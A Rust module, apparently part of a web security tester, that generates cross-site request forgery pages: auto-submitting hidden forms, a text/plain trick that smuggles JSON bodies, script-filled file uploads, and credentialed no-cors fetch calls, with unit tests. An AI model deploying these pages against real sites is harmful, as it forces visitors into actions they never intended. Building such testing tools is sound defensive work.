//! Pages of an attacker that make a browser send what the visitor never meant.

use crate::call::{Call, Part, Payload, text_of};

/// How a foreign page sends something.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Way {
    /// A form, as pages of the application have it.
    Form,
    /// JSON in a form of plain text.
    PlainText,
    /// A form with a file, filled in by a script.
    Multipart,
    /// A link, with the fields in the query.
    Link,
    /// A script that sends without reading the answer.
    Script,
}

impl Way {
    pub(super) const fn words(self) -> &'static str {
        match self {
            Self::Form => "a form",
            Self::PlainText => "JSON in a form of plain text",
            Self::Multipart => "a form with a file",
            Self::Link => "a link",
            Self::Script => "a script",
        }
    }
}

/// The ways in which a call can be sent from another site, the plainest first; none where browsers ask before.
pub(super) fn ways(call: &Call) -> Vec<Way> {
    let plain = call.headers.is_empty() && call.method == "POST";
    match &call.payload {
        _ if call.method == "GET" && call.headers.is_empty() => vec![Way::Link],
        _ if !plain => Vec::new(),
        Payload::Form(_) | Payload::Nothing => vec![Way::Form, Way::Script, Way::Link],
        Payload::Json(_) => vec![Way::PlainText, Way::Script],
        Payload::Multipart(_) => vec![Way::Multipart],
        Payload::Raw { .. } => Vec::new(),
    }
}

/// A page that sends the call to `base` as soon as it is open.
pub(super) fn page(base: &str, call: &Call, way: Way) -> String {
    let request = call.request();
    let action = format!("{base}{}", request.target);
    let body = match (way, &call.payload) {
        (Way::Form, payload) => {
            let fields = match payload {
                Payload::Form(fields) => fields.as_slice(),
                _ => &[],
            };
            form(
                &action,
                "",
                &fields.iter().map(|(name, value)| (name.as_str(), text_of(value))).collect::<Vec<_>>(),
            )
        }
        (Way::PlainText, Payload::Json(value)) => {
            // `{"a":1,"x":"=y"}`: the sign that the form writes stands in a value of its own.
            let text = value.to_string();
            let open = text.strip_suffix('}').filter(|open| open.len() > 1);
            let (name, rest) = match open {
                Some(open) => (format!("{open},\"gabion\":\""), "\"}".to_owned()),
                None => (text, String::new()),
            };
            form(&action, "text/plain", &[(name.as_str(), rest)])
        }
        (Way::Multipart, Payload::Multipart(parts)) => multipart(&action, parts),
        (Way::Script, payload) => {
            let kind = if matches!(payload, Payload::Json(_)) {
                "text/plain"
            } else {
                "application/x-www-form-urlencoded"
            };
            let body = String::from_utf8_lossy(&request.body).into_owned();
            format!(
                "<script>fetch({}, {{ method: 'POST', mode: 'no-cors', credentials: 'include', headers: {{ 'content-type': '{kind}' }}, body: {} }})</script>",
                literal(&action),
                literal(&body),
            )
        }
        (_, payload) => {
            let mut target = action;
            if let Payload::Form(fields) = payload {
                let mut query = url::form_urlencoded::Serializer::new(String::new());
                query.extend_pairs(fields.iter().map(|(name, value)| (name, text_of(value))));
                query.append_pair("_method", "POST");
                target.push(if target.contains('?') { '&' } else { '?' });
                target.push_str(&query.finish());
            }
            format!("<script>location = {}</script>", literal(&target))
        }
    };
    format!("<!doctype html><meta charset=utf-8><title>A page</title>{body}")
}

fn form(action: &str, kind: &str, fields: &[(&str, String)]) -> String {
    let kind = if kind.is_empty() { "application/x-www-form-urlencoded" } else { kind };
    let inputs: String = fields
        .iter()
        .map(|(name, value)| {
            format!("<input type=hidden name=\"{}\" value=\"{}\">", escaped(name), escaped(value))
        })
        .collect();
    format!(
        "<form id=f method=post enctype=\"{kind}\" action=\"{}\">{inputs}</form><script>HTMLFormElement.prototype.submit.call(document.getElementById('f'))</script>",
        escaped(action)
    )
}

fn multipart(action: &str, parts: &[Part]) -> String {
    let mut inputs = String::new();
    let mut fill = String::new();
    for (at, part) in parts.iter().enumerate() {
        let content = String::from_utf8_lossy(&part.content).into_owned();
        let name = escaped(&part.name);
        match &part.file {
            None => inputs
                .push_str(&format!("<input type=hidden name=\"{name}\" value=\"{}\">", escaped(&content))),
            Some((file, kind)) => {
                inputs.push_str(&format!("<input type=file name=\"{name}\" id=i{at}>"));
                fill.push_str(&format!(
                    "{{ const t = new DataTransfer(); t.items.add(new File([{}], {}, {{ type: {} }})); document.getElementById('i{at}').files = t.files }}",
                    literal(&content),
                    literal(file),
                    literal(kind),
                ));
            }
        }
    }
    format!(
        "<form id=f method=post enctype=\"multipart/form-data\" action=\"{}\">{inputs}</form><script>{fill} HTMLFormElement.prototype.submit.call(document.getElementById('f'))</script>",
        escaped(action)
    )
}

fn escaped(text: &str) -> String {
    text.replace('&', "&amp;").replace('"', "&quot;").replace('<', "&lt;")
}

/// A text in a script of a page.
fn literal(text: &str) -> String {
    serde_json::Value::String(text.to_owned()).to_string().replace('<', "\\u003c")
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;

    #[test]
    fn json_goes_through_a_form() {
        let mut call = Call::new("POST", "/api/notes");
        call.payload = Payload::Json(json!({ "title": "a" }));
        let page = page("http://a", &call, Way::PlainText);
        assert!(
            page.contains("name=\"{&quot;title&quot;:&quot;a&quot;,&quot;gabion&quot;:&quot;\""),
            "{page}"
        );
        assert!(page.contains("value=\"&quot;}\""), "{page}");
    }

    #[test]
    fn what_browsers_ask_about_first_is_not_sent() {
        assert_eq!(ways(&Call::new("PATCH", "/a")), []);
        let mut call = Call::new("POST", "/a");
        call.headers.push(("x-token".to_owned(), "1".to_owned()));
        assert_eq!(ways(&call), []);
    }

    #[test]
    fn a_value_does_not_end_the_page() {
        assert_eq!(literal("</script>"), "\"\\u003c/script>\"");
        assert_eq!(escaped("\"<&"), "&quot;&lt;&amp;");
    }
}
